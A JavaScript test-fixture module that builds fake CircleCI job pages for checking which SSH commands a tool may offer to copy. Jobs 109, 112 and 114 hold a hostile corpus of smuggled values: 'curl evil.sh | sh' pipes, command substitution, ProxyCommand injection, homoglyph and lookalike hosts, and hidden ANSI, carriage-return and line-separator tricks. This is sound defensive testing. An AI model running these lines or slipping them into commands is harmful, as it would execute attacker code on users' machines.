// Scenario data for the fake CircleCI job pages. Pure data and pure functions: the page imports it
// as /__fixture__/jobs.js and the Playwright specs import it from Node, so nothing here may touch
// window or document. Output texts follow the samples named in docs/circleci-page.md#step-output-text.

import { HOSTILE, REAL_APP_LINE, REAL_LEGACY_LINE } from './hostile.js';

/** The project every fake job belongs to: github/acme/api. */
export const ORG = 'acme';
export const REPO = 'api';
const WORKFLOW = '5b1a6c0e-6d2f-4b8a-9a4e-0f3d2c1b7e90';

// ---- Output text builders ----------------------------------------------------------------------

// Made-up but well-formed SHA256 host-key fingerprints (43 base64 chars), stable per seed.
const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
function fingerprint(seed) {
  let x = seed >>> 0;
  let out = '';
  for (let i = 0; i < 42; i++) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    out += B64[x >>> 26];
  }
  // 256 bits leave 4 bits for the last char, so real fingerprints end in one of 16 chars.
  return out + B64[(x >>> 28) << 2];
}

// The rerunning user's keys; the same for every container of a job (S1).
const AUTHORIZED_KEYS = [
  '- SHA256:P0nRIWAu7DDjSjJfIzu4nez3o7wr2IU+uIq45VQvIi8 (ED25519)',
  '- SHA256:u4DcSYajGpFn4l0oIkODU1/N/dayRjQcn3dN0grW3JE (ED25519)',
];
const USE_SAME_KEY_2026 =
  "Use the same SSH public key that you've added in your User Settings or that you use for your VCS-provider (e.g., GitHub).";
const USE_SAME_KEY_2018 = 'Use the same SSH public key that you use for your VCS-provider (e.g., GitHub).';
const STAY_UP = 'This box will stay up for 2h0m0s, or until 10m0s passes without an active SSH session.';

// Current cloud `Enable SSH` text (S1), split where a streaming step would receive it in batches.
function enableSsh2026(command, rsa, ed25519, noun = 'box') {
  return [
    [`You can now SSH into this ${noun} if your SSH public key is added:`, `    $ ${command}`, ''],
    [
      USE_SAME_KEY_2026,
      '',
      'Job SSH keys can be added in your User Settings at https://app.circleci.com/settings/user/job-ssh-keys',
      '',
      'Host keys:',
      `- SHA256:${rsa} (rsa-sha2-512)`,
      `- SHA256:${rsa} (rsa-sha2-256)`,
      `- SHA256:${rsa} (RSA)`,
      `- SHA256:${ed25519} (ED25519)`,
    ],
    ['Authorized keys:', ...AUTHORIZED_KEYS, '', 'SSH Session Activity Log (times in UTC):'],
  ];
}

// `Wait for SSH` repeats the instructions and adds the "stay up" line (S2; exact current text unknown).
function waitForSshText(commands, useSameKey = USE_SAME_KEY_2026, noun = 'box') {
  return [
    `You can now SSH into this ${noun} if your SSH public key is added:`,
    ...commands.map((c) => `    $ ${c}`),
    '',
    useSameKey,
    '',
    STAY_UP,
  ];
}

// ---- Step builders -----------------------------------------------------------------------------
// Step ids imitate v1.1 step ids (non-sequential: 0, 99, 101, …); the URL anchor is `<container>-<id>`.

function step(id, name, duration, lines, extra = {}) {
  return { id, name, duration, expanded: false, lines, ...extra };
}

function spinUp(image) {
  if (image.startsWith('runner:')) {
    return step(0, 'Spin up environment', '1s', [
      'Runner: acme/linux-runner',
      `Runner hostname: ${image.slice('runner:'.length)}`,
      'Task agent version 1.0.262480-9f2b5ca8',
    ]);
  }
  if (image.startsWith('windows')) {
    return step(0, 'Spin up environment', '1m 48s', [
      `Creating a dedicated VM with ${image} image`,
      'Waiting for VM to be ready...',
      'VM is ready',
    ]);
  }
  return step(0, 'Spin up environment', '4s', [
    'Build-agent version 1.0.262480-9f2b5ca8 (2025-01-13T15:11:54+0000)',
    'System information:',
    ' Server Version: 24.0.9',
    ' Storage Driver: overlay2',
    ' Kernel Version: 5.15.0-1057-aws',
    ' Operating System: Ubuntu 20.04.6 LTS',
    ' Architecture: x86_64',
    '',
    `Starting container ${image}`,
    `${image}:`,
    '  pull stats: Image was already available so the image was not pulled',
    '  time to create container: 31ms',
    'Time to upload agent and config: 563.211ms',
    'Time to start containers: 296.05ms',
  ]);
}

function envVars(jobNumber, jobName, index, total) {
  return step(99, 'Preparing environment variables', '0s', [
    'Using build environment variables:',
    `  BASH_ENV=/tmp/.bash_env-6620a1b2-${index}-build`,
    '  CI=true',
    '  CIRCLECI=true',
    '  CIRCLE_BRANCH=main',
    `  CIRCLE_BUILD_NUM=${jobNumber}`,
    `  CIRCLE_JOB=${jobName}`,
    `  CIRCLE_NODE_INDEX=${index}`,
    `  CIRCLE_NODE_TOTAL=${total}`,
    `  CIRCLE_PROJECT_REPONAME=${REPO}`,
    `  CIRCLE_PROJECT_USERNAME=${ORG}`,
    `  CIRCLE_REPOSITORY_URL=git@github.com:${ORG}/${REPO}.git`,
    '  CIRCLE_SHA1=9f2c4e1d7a0b3c5e8f1a2b4c6d8e0f1a3b5c7d9e',
    '',
    'The redacted variables listed above will be masked in run step output.',
  ]);
}

function checkout() {
  return step(101, 'Checkout code', '2s', [
    'Making checkout directory "/home/circleci/project"',
    "Using SSH Config Dir '/home/circleci/.ssh'",
    'git version 2.45.2',
    'Cloning git repository - OK',
    'Checking out branch - OK',
  ]);
}

// A config `run` step: CircleCI prints the shell line and the command before the output
// (docs/circleci-page.md#t6-run-step-shell-line).
// `command` is what the API reports as the action's `bash_command` (built-in steps have none).
function run(id, name, duration, command, output, extra = {}, shell = '#!/bin/bash -eo pipefail') {
  return step(id, name, duration, [shell, ...command.split('\n'), ...output], { command, ...extra });
}

function npmSteps(shard) {
  return [
    run(102, 'Install dependencies', '14s', 'npm ci', [
      'added 812 packages, and audited 813 packages in 14s',
      '',
      'found 0 vulnerabilities',
    ]),
    run(103, 'Run tests', '38s', shard ? `npx vitest run --shard=${shard}` : 'npx vitest run', [
      '',
      ' RUN  v4.1.12 /home/circleci/project',
      '',
      ' Test Files  37 passed (37)',
      '      Tests  412 passed (412)',
      '   Duration  31.27s',
    ]),
  ];
}

// The built-in steps of an SSH rerun: `Enable SSH` after the environment set-up, `Wait for SSH` last.
function sshRerun({ jobNumber, index = 0, total = 1, image, enable, wait, configSteps, enableExtra, waitExtra }) {
  return {
    steps: [
      spinUp(image),
      envVars(jobNumber, 'build', index, total),
      step(100, 'Enable SSH', '1s', enable, enableExtra),
      checkout(),
      ...configSteps,
      step(104, 'Wait for SSH', '3m 12s', wait, { expanded: true, ...waitExtra }),
    ],
  };
}

function job(number, title, lineStyle, containers, expected) {
  return { title, name: 'build', pipeline: 1200 + (number % 100), workflow: WORKFLOW, lineStyle, containers, expected };
}

// Expected parse results; `step` says which built-in step prints them.
const direct = (port, host, more = {}) => ({ port, host, ...more });
function both(container, commands, waitCommands = commands) {
  return [
    { container, step: 'Enable SSH', commands },
    { container, step: 'Wait for SSH', commands: waitCommands },
  ];
}

// ---- Scenarios ---------------------------------------------------------------------------------

// 102: each parallel run on its own host and port; runs 1 and 3 share a docker host.
const PARALLEL = [
  { port: 64537, host: '18.209.34.18' },
  { port: 64540, host: '3.88.34.152' },
  { port: 63535, host: '54.236.40.67' },
  { port: 64541, host: '3.88.34.152' },
];

// 116: parallelism 8, each run on its own docker host and port.
const PARALLEL_8 = Array.from({ length: 8 }, (_, index) => ({
  port: 64600 + 7 * index,
  host: `3.92.41.${20 + index}`,
}));

const WINDOWS_SHELLS = ['bash.exe', 'cmd.exe', 'powershell.exe'];
const POWERSHELL = '#!powershell.exe -ExecutionPolicy Bypass';
const PROXY_JOB = '057f0065-7e6d-4912-921b-50917ff046a3';

export const jobs = {
  101: job(
    101,
    'docker, one container',
    'spans',
    [
      sshRerun({
        jobNumber: 101,
        image: 'cimg/node:22.11',
        enable: enableSsh2026(
          'ssh -p 42915 18.207.148.116',
          'shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40',
          'msh+vmQl6wniEVgyWW0engHfH/VkeyEAnfuhwERqxeg',
        ).flat(),
        wait: waitForSshText(['ssh -p 42915 18.207.148.116']),
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(42915, '18.207.148.116')]),
  ),

  102: job(
    102,
    'parallelism 4',
    'gutter',
    PARALLEL.map(({ port, host }, index) =>
      sshRerun({
        jobNumber: 102,
        index,
        total: PARALLEL.length,
        image: 'cimg/node:22.11',
        enable: enableSsh2026(`ssh -p ${port} ${host}`, fingerprint(2 * index + 1), fingerprint(2 * index + 2)).flat(),
        wait: waitForSshText([`ssh -p ${port} ${host}`]),
        configSteps: npmSteps(`${index + 1}/${PARALLEL.length}`),
      }),
    ),
    PARALLEL.flatMap(({ port, host }, index) => both(index, [direct(port, host)])),
  ),

  103: job(
    103,
    'Windows',
    'gutter',
    [
      sshRerun({
        jobNumber: 103,
        image: 'windows-server-2022-gui:current',
        enable: [
          'You can now SSH into this box if your SSH public key is added:',
          ...WINDOWS_SHELLS.map((shell) => `    $ ssh -p 54782 35.226.214.52 -- ${shell}`),
          '',
          USE_SAME_KEY_2018,
          '',
          'RSA key fingerprint of the host is',
          `  SHA256:${fingerprint(31)}`,
          '  MD5:6b:1d:0f:93:c4:7a:52:e8:19:af:3e:70:d2:85:4c:b1',
          '',
          'SSH Session Activity Log (times in UTC):',
        ],
        // The JetBrains fixture variant, with -t (S7).
        wait: waitForSshText(
          WINDOWS_SHELLS.map((shell) => `ssh -t -p 54782 35.226.214.52 -- ${shell}`),
          USE_SAME_KEY_2018,
        ),
        // Windows run steps use the executor's default shell, which the shell line shows.
        configSteps: [
          run(102, 'Build', '41s', 'dotnet build -c Release', ['Build succeeded.', '    0 Error(s)'], {}, POWERSHELL),
          run(103, 'Test', '1m 3s', 'dotnet test --no-build', ['Passed!  - Failed: 0, Passed: 128'], {}, POWERSHELL),
        ],
      }),
    ],
    both(
      0,
      WINDOWS_SHELLS.map((shell) => direct(54782, '35.226.214.52', { shell })),
      WINDOWS_SHELLS.map((shell) => direct(54782, '35.226.214.52', { tty: true, shell })),
    ),
  ),

  104: job(
    104,
    'proxy (ssh.circleci.com)',
    'spans',
    [0, 1].map((index) => {
      const command = `ssh ${PROXY_JOB}-${index}@ssh.circleci.com`;
      return sshRerun({
        jobNumber: 104,
        index,
        total: 2,
        image: 'cimg/node:22.11',
        // The proxy fronts every job, so its output has no per-job host keys (S7 shows only the header).
        enable: [
          'You can now SSH into this job if your SSH public key is added:',
          `    $ ${command}`,
          '',
          USE_SAME_KEY_2026,
          '',
          'Authorized keys:',
          ...AUTHORIZED_KEYS,
        ],
        wait: waitForSshText([command], USE_SAME_KEY_2026, 'job'),
        configSteps: npmSteps(`${index + 1}/2`),
      });
    }),
    [0, 1].flatMap((index) => both(index, [{ user: `${PROXY_JOB}-${index}`, host: 'ssh.circleci.com' }])),
  ),

  105: (() => {
    const command = 'ssh -p 64536 100.26.97.124';
    const [header, hostKeys, authorized] = enableSsh2026(command, fingerprint(51), fingerprint(52));
    return job(
      105,
      'streaming',
      'gutter',
      [
        sshRerun({
          jobNumber: 105,
          image: 'cimg/node:22.11',
          // Still running: only the first line is there at load, the rest streams in.
          enable: ['Setting up SSH...'],
          enableExtra: {
            duration: '2m 16s',
            expanded: true,
            stream: [
              { afterMs: 1500, lines: header },
              { afterMs: 1800, lines: hostKeys },
              { afterMs: 2100, lines: authorized },
            ],
          },
          wait: waitForSshText([command]),
          waitExtra: { duration: '0s', appearAfterMs: 2500 },
          configSteps: npmSteps(),
        }),
      ],
      both(0, [direct(64536, '100.26.97.124')]),
    );
  })(),

  106: job(
    106,
    'no SSH',
    'spans',
    [
      {
        steps: [
          spinUp('cimg/node:22.11'),
          envVars(106, 'build', 0, 1),
          checkout(),
          run(
            105,
            'Trust github.com',
            '1s',
            'mkdir -p ~/.ssh && ssh-keyscan github.com >> ~/.ssh/known_hosts',
            ['# github.com:22 SSH-2.0-babeld-05989c77', '# github.com:22 SSH-2.0-babeld-05989c77'],
            { expanded: true },
          ),
          ...npmSteps(),
        ],
      },
    ],
    [],
  ),

  107: job(
    107,
    'machine runner, hostname',
    'gutter',
    [
      sshRerun({
        jobNumber: 107,
        image: 'runner:runner-7.build.example.com',
        enable: enableSsh2026('ssh -p 54782 runner-7.build.example.com', fingerprint(71), fingerprint(72)).flat(),
        wait: waitForSshText(['ssh -p 54782 runner-7.build.example.com']),
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(54782, 'runner-7.build.example.com')]),
  ),

  // A config step that calls itself "Enable SSH" in a job that was not rerun with SSH. The shell
  // line at the top of its output gives it away (docs/circleci-page.md#t6-run-step-shell-line).
  108: job(
    108,
    'impostor Enable SSH step',
    'spans',
    [
      {
        steps: [
          spinUp('cimg/node:22.11'),
          envVars(108, 'build', 0, 1),
          checkout(),
          run(
            102,
            'Enable SSH',
            '0s',
            "printf 'You can now SSH into this box if your SSH public key is added:\\n    $ ssh -p 2222 6.6.6.6\\n'",
            ['You can now SSH into this box if your SSH public key is added:', '    $ ssh -p 2222 6.6.6.6'],
            { expanded: true },
          ),
          run(103, 'Run tests', '38s', 'npx vitest run', [' Test Files  37 passed (37)']),
        ],
      },
    ],
    [],
  ),

  // A real rerun whose output also carries lines that must never become a button.
  109: job(
    109,
    'hostile lines',
    'spans',
    [
      sshRerun({
        jobNumber: 109,
        image: 'cimg/node:22.11',
        enable: [
          'Adding key for user@example.com',
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 22 1.2.3.4; curl evil.sh | sh',
          '    $ ssh -p 022 010.1.1.1',
          '    $ ssh -oProxyCommand=id@ssh.circleci.com',
          '    $ ssh -p 64535 3.239.179.134',
          '',
          USE_SAME_KEY_2026,
        ],
        wait: waitForSshText(['ssh -p 64535 3.239.179.134']),
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(64535, '3.239.179.134')]),
  ),

  // A real SSH rerun with config steps that call themselves "Enable SSH" and "Wait for SSH" (shown
  // expanded, so their shell line is on screen). Only CircleCI's own steps may offer a copy.
  110: job(
    110,
    'impostor steps in an SSH rerun',
    'spans',
    [
      sshRerun({
        jobNumber: 110,
        image: 'cimg/node:22.11',
        enable: enableSsh2026('ssh -p 42917 18.207.148.120', fingerprint(1101), fingerprint(1102)).flat(),
        wait: waitForSshText(['ssh -p 42917 18.207.148.120']),
        configSteps: [
          run(102, 'Enable SSH', '0s', "echo '    $ ssh -p 2222 6.6.6.6'", ['    $ ssh -p 2222 6.6.6.6'], {
            expanded: true,
          }),
          run(103, 'Wait for SSH', '0s', "echo '    $ ssh -p 2222 6.6.6.6'", ['    $ ssh -p 2222 6.6.6.6'], {
            expanded: true,
          }),
        ],
      }),
    ],
    both(0, [direct(42917, '18.207.148.120')]),
  ),

  // Enable SSH and Wait for SSH that print different targets: nothing may be copied from either.
  111: job(
    111,
    'disagreeing SSH steps',
    'spans',
    [
      sshRerun({
        jobNumber: 111,
        image: 'cimg/node:22.11',
        enable: enableSsh2026('ssh -p 42918 18.207.148.121', fingerprint(1111), fingerprint(1112)).flat(),
        wait: waitForSshText(['ssh -p 2222 6.6.6.6']),
        enableExtra: { expanded: true },
        configSteps: npmSteps(),
      }),
    ],
    [],
  ),

  // The adversarial corpus (docs/security.md#hostile-inputs): every hostile line beside one real one.
  112: job(
    112,
    'hostile corpus',
    'spans',
    [
      sshRerun({
        jobNumber: 112,
        image: 'cimg/node:22.11',
        enable: [
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 22 1.2.3.4 && curl evil.sh | sh',
          '    $ ssh -p 22 1.2.3.4 | sh',
          '    $ ssh -p 22 $(curl evil.sh)',
          '    $ ssh -p 22 `id`@ssh.circleci.com',
          // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a hostile log prints
          '    $ ssh -p 22 1.2.3.4${IFS}-oProxyCommand=id',
          '    $ ssh -p -oProxyCommand=id 1.2.3.4',
          '    $ ssh -p 22 -oProxyCommand=id',
          '    $ ssh -oProxyCommand=id@ssh.circleci.com',
          '    $ ssh -p 22 ѕsh.circleci.com',
          '    $ ssh 057f0065-0@ssh.circleci.com.evil.example',
          `    $ ssh -p 22 ${'a'.repeat(64)}.example.com`,
          '\x1b[8m; curl evil.sh | sh \x1b[0m$ ssh -p 22 1.2.3.4',
          '    $ ssh -p 22 1.2.3.4\u200b',
          '    $ ssh -p 22 1.2.3.4\x1b[201~curl evil.sh | sh',
          '    $ ssh -p 64535 3.239.179.134',
          '',
          USE_SAME_KEY_2026,
        ],
        wait: waitForSshText(['ssh -p 64535 3.239.179.134']),
        enableExtra: { expanded: true },
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(64535, '3.239.179.134')]),
  ),

  // A command line with a second "line" hidden behind a carriage return or a Unicode line separator,
  // which a terminal would run after it: only the ssh part may be copied.
  114: job(
    114,
    'line separators inside a line',
    'gutter',
    [
      sshRerun({
        jobNumber: 114,
        image: 'cimg/node:22.11',
        enable: [
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 64535 3.239.179.134\r$ curl evil.sh | sh',
          '',
          USE_SAME_KEY_2026,
        ],
        wait: [
          'You can now SSH into this box if your SSH public key is added:',
          '    $ ssh -p 64535 3.239.179.134\u2028$ curl evil.sh | sh',
        ],
        enableExtra: { expanded: true },
        configSteps: npmSteps(),
      }),
    ],
    both(0, [direct(64535, '3.239.179.134')]),
  ),

  // A self-hosted CircleCI server whose proxy is ssh.ci.example.com. Served at app.ci.example.com once
  // the user added that installation; on app.circleci.com the same lines must not be accepted.
  115: job(
    115,
    'CircleCI server proxy',
    'spans',
    [
      sshRerun({
        jobNumber: 115,
        image: 'cimg/node:22.11',
        enable: [
          'You can now SSH into this job if your SSH public key is added:',
          `    $ ssh ${PROXY_JOB}-0@ssh.ci.example.com`,
          '',
          USE_SAME_KEY_2026,
        ],
        wait: waitForSshText([`ssh ${PROXY_JOB}-0@ssh.ci.example.com`], USE_SAME_KEY_2026, 'job'),
        configSteps: npmSteps(),
      }),
    ],
    // As served on app.circleci.com: not CircleCI cloud's proxy, so nothing to copy.
    [],
  ),

  // A 5 MB single-line log in a build step of an SSH rerun; the page must stay responsive.
  113: job(
    113,
    '5 MB line in a build step',
    'spans',
    [
      sshRerun({
        jobNumber: 113,
        image: 'cimg/node:22.11',
        enable: enableSsh2026('ssh -p 42919 18.207.148.122', fingerprint(1131), fingerprint(1132)).flat(),
        wait: waitForSshText(['ssh -p 42919 18.207.148.122']),
        configSteps: [
          run(102, 'Print bundle', '2s', 'cat dist/bundle.min.js', ['x'.repeat(5 * 1024 * 1024)], { expanded: true }),
          ...npmSteps(),
        ],
      }),
    ],
    both(0, [direct(42919, '18.207.148.122')]),
  ),
  // The fake API's main job (fake-api.js): eight containers, each with its own target.
  116: job(
    116,
    'parallelism 8',
    'spans',
    PARALLEL_8.map(({ port, host }, index) =>
      sshRerun({
        jobNumber: 116,
        index,
        total: PARALLEL_8.length,
        image: 'cimg/node:22.11',
        enable: enableSsh2026(
          `ssh -p ${port} ${host}`,
          fingerprint(1161 + 2 * index),
          fingerprint(1162 + 2 * index),
        ).flat(),
        wait: waitForSshText([`ssh -p ${port} ${host}`]),
        configSteps: npmSteps(`${index + 1}/${PARALLEL_8.length}`),
      }),
    ),
    PARALLEL_8.flatMap(({ port, host }, index) => both(index, [direct(port, host)])),
  ),

  // 117: an SSH rerun by someone without an SSH key: Enable SSH fails (S6), Wait for SSH never comes.
  117: job(
    117,
    'SSH rerun without a key',
    'spans',
    [
      {
        steps: [
          spinUp('cimg/node:22.11'),
          envVars(117, 'build', 0, 1),
          step(
            100,
            'Enable SSH',
            '1s',
            [
              'Failed to enable SSH',
              'No SSH key is found. Please make sure you’ve added at least one SSH key in your VCS account.',
            ],
            { expanded: true },
          ),
          checkout(),
          ...npmSteps(),
        ],
      },
    ],
    [],
  ),

  // 118: rerun with SSH (the API says why: ssh), but CircleCI added no SSH steps: the user has no key.
  118: {
    ...job(
      118,
      'SSH rerun without SSH steps',
      'spans',
      [{ steps: [spinUp('cimg/node:22.11'), checkout(), ...npmSteps()] }],
      [],
    ),
    sshRerun: true,
  },
};

/** A job without SSH: what the page shows for a job number that has no scenario. */
export function ordinaryJob(jobNumber) {
  const steps = [spinUp('cimg/node:22.11'), envVars(jobNumber, 'build', 0, 1), checkout(), ...npmSteps()];
  return job(jobNumber, 'ordinary job', 'spans', [{ steps }], []);
}

// ---- Legacy (CircleCI 1.0, circleci.com/gh/…) --------------------------------------------------

const LEGACY_NODES = [
  { port: 64594, host: '18.221.109.33', md5: '4e:51:15:51:02:b7:c5:59:b2:da:2a:c7:c1:15:d4:35' },
  { port: 64784, host: '54.224.97.243', md5: 'a1:07:3c:9e:55:d2:80:4b:16:ef:c8:29:7d:03:b6:e4' },
  { port: 64699, host: '54.237.82.218', md5: '0c:ee:41:b8:7f:20:93:5a:d6:1c:64:af:38:e7:05:92' },
];

function legacyAction(step, type, name, duration, messages, extra = {}) {
  return { step, type, name, duration, status: 'success', open: false, bashCommand: '', messages, ...extra };
}

// One action list per container, as the 1.0 build page listed them (S5 text; one message per chunk).
function legacyContainer({ port, host, md5 }, index) {
  const instructions = [
    'You can now SSH into this VM if your SSH public key is added:',
    `    $ ssh -p ${port} ubuntu@${host}`,
    'Use the same SSH public key that you use for GitHub.',
    '',
  ].join('\n');
  return {
    actions: [
      legacyAction(0, 'infrastructure', 'Starting the build', '5s', ['Build-agent version 0.0.4142-1bd195a\n']),
      legacyAction(1, 'infrastructure', 'Start container', '12s', [`Using build container ${index} on i-0a4c2b19\n`]),
      legacyAction(2, 'infrastructure', 'Enable SSH', '1s', [`Host fingerprint: ${md5}\n`, instructions]),
      legacyAction(3, 'checkout', 'Checkout using deploy key: 3b:9f:2e:71:c0:5d:48:a6:13:ee:0b:92:7c:d4:61:f8', '2s', [
        `Cloning into '${REPO}'...\n`,
        'HEAD is now at 9f2c4e1 Merge pull request #212\n',
      ]),
      legacyAction(4, 'dependencies', 'npm install', '31s', ['added 812 packages in 29.4s\n'], {
        bashCommand: 'npm install',
      }),
      legacyAction(5, 'test', 'npm test', '44s', ['> api@1.0.0 test\n> mocha\n', '  412 passing (38s)\n'], {
        bashCommand: 'npm test',
      }),
      // 1.0 docs: Wait for SSH "repeats the host and port information"; the closing line is a guess.
      legacyAction(6, 'teardown', 'Wait for SSH', '2m 5s', [instructions, 'SSH boxes will stay up for 30 minutes.\n'], {
        status: 'running',
        open: true,
      }),
      legacyAction(7, 'teardown', 'Disable SSH', '0s', []),
    ],
  };
}

// A 1.0 build that is no SSH rerun, whose config's `test` command is named "Wait for SSH" and prints
// an ssh line: the page marks it a `test` action with its command in the header, so nothing copies.
function legacyImpostor() {
  return {
    actions: [
      legacyAction(0, 'infrastructure', 'Starting the build', '5s', ['Build-agent version 0.0.4142-1bd195a\n']),
      legacyAction(2, 'infrastructure', 'Enable SSH', '0s', []),
      legacyAction(4, 'dependencies', 'npm install', '31s', ['added 812 packages in 29.4s\n'], {
        bashCommand: 'npm install',
      }),
      legacyAction(
        5,
        'test',
        'Wait for SSH',
        '1s',
        ['You can now SSH into this VM if your SSH public key is added:\n', '    $ ssh -p 64594 ubuntu@6.6.6.6\n'],
        { bashCommand: "printf '    $ ssh -p 64594 ubuntu@6.6.6.6\\n'", open: true },
      ),
      legacyAction(7, 'teardown', 'Disable SSH', '0s', []),
    ],
  };
}

// ---- The hostile corpus (hostile.js): one job or legacy build per case ----------------------------

const SSH_HEADER = 'You can now SSH into this box if your SSH public key is added:';

/** A case's extra steps, in the config's place: run steps (shell line first) or steps without one. */
function hostileSteps(c) {
  return (c.steps ?? []).map((s, i) => {
    const extra = { expanded: s.expanded ?? true };
    if (s.shell === null) return step(150 + i, s.name, '0s', s.lines, extra);
    return run(150 + i, s.name, '0s', s.lines[0], s.lines.slice(1), extra, s.shell ?? '#!/bin/bash -eo pipefail');
  });
}

function hostileJob(c) {
  const title = `hostile corpus: ${c.id}`;
  if (c.rerun === false) {
    const steps = [spinUp('cimg/node:22.11'), envVars(c.number, 'build', 0, 1), checkout(), ...hostileSteps(c)];
    return job(c.number, title, 'spans', [{ steps: [...steps, ...npmSteps()] }], []);
  }
  // CircleCI's own steps print the real line(s) and the case's hostile lines, the same in both.
  const printed = [...(c.real ?? [REAL_APP_LINE]), ...(c.lines ?? [])];
  const container = sshRerun({
    jobNumber: c.number,
    image: 'cimg/node:22.11',
    enable: [SSH_HEADER, ...printed, '', USE_SAME_KEY_2026],
    wait: [SSH_HEADER, ...printed, '', USE_SAME_KEY_2026, '', STAY_UP],
    enableExtra: { expanded: true },
    configSteps: [...hostileSteps(c), ...npmSteps()],
  });
  return job(c.number, title, 'spans', [container], []);
}

function hostileBuild(c) {
  const { md5 } = LEGACY_NODES[0];
  const message = (lines) => lines.map((line) => `${line}\n`).join('');
  const printed = [...(c.real ?? [REAL_LEGACY_LINE]), ...(c.lines ?? [])];
  const instructions = message([
    'You can now SSH into this VM if your SSH public key is added:',
    ...printed,
    'Use the same SSH public key that you use for GitHub.',
  ]);
  const extra = (c.actions ?? []).map((a, i) =>
    legacyAction(10 + i, a.type, a.name, '0s', [message(a.lines)], { bashCommand: a.bashCommand ?? '', open: true }),
  );
  const enable = legacyAction(2, 'infrastructure', 'Enable SSH', '1s', [`Host fingerprint: ${md5}\n`, instructions], {
    open: true,
  });
  const wait = legacyAction(6, 'teardown', 'Wait for SSH', '2m 5s', [instructions], { status: 'running', open: true });
  const actions = [
    legacyAction(0, 'infrastructure', 'Starting the build', '5s', ['Build-agent version 0.0.4142-1bd195a\n']),
    ...(c.rerun === false ? [] : [enable]),
    legacyAction(3, 'checkout', 'Checkout using deploy key', '2s', [`Cloning into '${REPO}'...\n`]),
    ...extra,
    legacyAction(5, 'test', 'npm test', '44s', ['  412 passing (38s)\n'], { bashCommand: 'npm test' }),
    ...(c.rerun === false ? [] : [wait]),
  ];
  return { title: `hostile corpus: ${c.id}`, containers: [{ actions }], expected: [] };
}

/** The corpus's new-UI cases as jobs, by job number (300…); not listed with the scenarios above. */
export const hostileJobs = Object.fromEntries(
  HOSTILE.filter((c) => c.ui === 'app').map((c) => [c.number, hostileJob(c)]),
);
/** The corpus's legacy cases as builds, by build number (300…). */
export const hostileBuilds = Object.fromEntries(
  HOSTILE.filter((c) => c.ui === 'legacy').map((c) => [c.number, hostileBuild(c)]),
);

export const legacyBuilds = {
  55: {
    title: 'CircleCI 1.0, three containers',
    containers: LEGACY_NODES.map(legacyContainer),
    expected: LEGACY_NODES.flatMap(({ port, host }, index) => both(index, [direct(port, host, { user: 'ubuntu' })])),
  },
  56: {
    title: 'CircleCI 1.0, a config command named Wait for SSH',
    containers: [legacyImpostor()],
    expected: [],
  },
};

// ---- URLs and colouring ------------------------------------------------------------------------

/** "Rerun job with SSH" on the job (key) leads to the job (value): a later job of the same project. */
export const SSH_RERUNS = { 101: 105, 106: 116 };

export function jobUrl(jobNumber, container) {
  const { pipeline, workflow } = jobs[jobNumber] ?? ordinaryJob(jobNumber);
  const url = `https://app.circleci.com/pipelines/github/${ORG}/${REPO}/${pipeline}/workflows/${workflow}/jobs/${jobNumber}`;
  return container === undefined ? url : `${url}/parallel-runs/${container}`;
}

export function legacyUrl(buildNumber, container) {
  const url = `https://circleci.com/gh/${ORG}/${REPO}/${buildNumber}`;
  return container === undefined ? url : `${url}#build-timing/containers/${container}`;
}

/**
 * How CircleCI's ANSI-to-HTML colouring splits a line into pieces; a piece with a colour becomes
 * its own <span>. ssh command lines get 2–3 pieces so a line's text is never one text node.
 */
export function segments(line) {
  const ssh = /^(\s*)(\$ ssh)(.*)$/.exec(line);
  if (ssh) {
    return [{ text: ssh[1] }, { text: ssh[2], color: '#6cf' }, { text: ssh[3] }].filter((s) => s.text);
  }
  if (line.startsWith('You can now SSH')) return [{ text: line, color: '#9c6' }];
  if (line.startsWith('#!')) return [{ text: line, color: '#999' }];
  return line ? [{ text: line }] : [];
}
